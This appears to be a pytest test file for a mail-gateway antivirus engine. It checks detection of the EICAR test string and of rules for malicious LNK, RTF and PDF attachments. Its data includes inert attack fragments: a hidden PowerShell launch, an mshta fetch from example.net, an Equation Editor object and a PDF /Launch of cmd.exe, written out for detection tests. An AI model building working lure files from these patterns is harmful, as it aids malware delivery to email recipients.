"""The built-in engine finds what it names, and nothing else."""

from __future__ import annotations

import hashlib
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from mailsec.gateway.errors import ScannerUnavailable
from mailsec.gateway.signatures.engine import BuiltinScanner, Definitions, load_definitions

# In two pieces, so that scanners do not take this file for a virus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC" + b"AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")


@pytest.fixture(scope="module")
def scanner() -> BuiltinScanner:
    return BuiltinScanner()


@pytest.mark.parametrize("tail", [b"", b"\r\n", b"\n", b" " * 60, b"\x1a", b"\t \r\n"])
def test_the_eicar_file_is_found_with_white_space_behind_it(
    scanner: BuiltinScanner, tail: bytes
) -> None:
    """68 bytes at the beginning, at most 128 in all."""
    assert scanner.scan(EICAR + tail).virus == "Eicar-Test-Signature"


@pytest.mark.parametrize(
    "content", [b"", b"hello", b" " + EICAR, EICAR + b"x", EICAR + b" " * 61, EICAR[:-1]]
)
def test_what_is_not_the_eicar_file_is_clean(scanner: BuiltinScanner, content: bytes) -> None:
    """A text that quotes the string is no virus, as its definition says."""
    assert not scanner.scan(content).infected


@pytest.mark.parametrize(
    ("content", "virus"),
    [
        (
            LINK + "powershell.exe -WindowStyle Hidden -c x".encode("utf-16-le"),
            "Mailsec.Lnk.HiddenScript",
        ),
        (LINK + b"mshta https://example.net/a", "Mailsec.Lnk.HiddenScript"),
        (
            b"{\\rtf1{\\object\\objupdate{\\*\\objdata 4571756174696F6E2E33}}}",
            "Mailsec.Rtf.EquationEditor",
        ),
        (b"%PDF-1.4 << /S /Launch /Win << /F (cmd.exe) >> >>", "Mailsec.Pdf.Launch"),
    ],
)
def test_each_rule_finds_its_trait(scanner: BuiltinScanner, content: bytes, virus: str) -> None:
    """The rule's own name is reported."""
    assert scanner.scan(content).virus == virus


@pytest.mark.parametrize(
    "content",
    [
        LINK + "powershell.exe -File C:\\tools\\backup.ps1".encode("utf-16-le"),
        b"{\\rtf1{\\object{\\*\\objdata 0105}}}",
        b"%PDF-1.4 << /S /Launch /F (manual.pdf) >>",
        b"powershell -WindowStyle Hidden in a text",
    ],
)
def test_each_rule_leaves_honest_files_alone(scanner: BuiltinScanner, content: bytes) -> None:
    """Near misses are clean."""
    assert not scanner.scan(content).infected


def test_a_known_hash_is_reported_by_its_name() -> None:
    """Hashes come first."""
    known = {hashlib.sha256(b"bad").hexdigest(): "Known.Bad"}
    scanner = BuiltinScanner(Definitions("1", "2026-01-01", "rule r { condition: false }", known))
    assert scanner.scan(b"bad").virus == "Known.Bad"
    assert not scanner.scan(b"good").infected


def test_the_definitions_say_how_old_they_are(scanner: BuiltinScanner) -> None:
    """Version and date are there to be shown."""
    assert scanner.definitions.version.isdigit()
    assert len(scanner.definitions.date) == len("2026-01-01")
    assert scanner.definitions.hashes


def test_a_bad_line_in_the_hash_list_stops_the_start(tmp_path: Path) -> None:
    """Definitions that cannot be read must not look like definitions that find nothing."""
    (tmp_path / "rules.yar").write_text("// version: 1\n// date: 2026-01-01\n")
    (tmp_path / "hashes.txt").write_text("# fine\nnot a hash\n")
    with pytest.raises(ValueError, match="line 2"):
        load_definitions(tmp_path)


def test_a_scan_that_takes_too_long_is_no_answer() -> None:
    """Time runs out: the scanner counts as not available, the content not as clean."""
    slow = (
        "rule slow { condition: for all i in (0..filesize-1): "
        "(for all j in (0..filesize-1): (uint8(j) + i >= 0)) }"
    )
    scanner = BuiltinScanner(Definitions("1", "2026-01-01", slow, {}), timeout=1)
    with pytest.raises(ScannerUnavailable):
        scanner.scan(b"x" * 2_000_000)


def test_one_scanner_serves_many_threads(scanner: BuiltinScanner) -> None:
    """Workers may run in threads."""
    contents = [EICAR, os.urandom(10_000)] * 20
    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(scanner.scan, contents))
    assert [result.infected for result in results] == [True, False] * 20
